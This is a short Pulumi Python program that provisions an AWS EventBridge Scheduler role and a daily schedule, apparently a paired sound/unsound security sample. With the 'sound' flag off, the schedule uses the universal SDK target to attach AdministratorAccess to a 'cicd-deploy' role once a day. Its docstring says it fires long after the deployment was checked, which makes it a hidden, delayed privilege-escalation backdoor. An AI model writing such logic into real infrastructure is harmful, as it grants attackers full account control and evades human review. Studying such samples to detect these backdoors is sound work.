"""A universal target calls any API at a given time, long after the deployment was checked."""

import json

import pulumi
import pulumi_aws as aws

sound = pulumi.Config().get_bool("sound")

account = aws.get_caller_identity_output().account_id
clock = aws.iam.Role(
    "clock",
    assume_role_policy=pulumi.Output.json_dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"Service": "scheduler.amazonaws.com"},
                    "Action": "sts:AssumeRole",
                    "Condition": {"StringEquals": {"aws:SourceAccount": account}},
                }
            ],
        }
    ),
)
queue = aws.sqs.Queue("orders")
if sound:
    target = {"arn": queue.arn, "input": json.dumps({"wake": "orders"})}
else:
    target = {
        "arn": "arn:aws:scheduler:::aws-sdk:iam:attachRolePolicy",
        "input": json.dumps({"RoleName": "cicd-deploy", "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    }
aws.scheduler.Schedule(
    "clock",
    schedule_expression="rate(1 day)",
    flexible_time_window={"mode": "OFF"},
    target={**target, "role_arn": clock.arn},
)
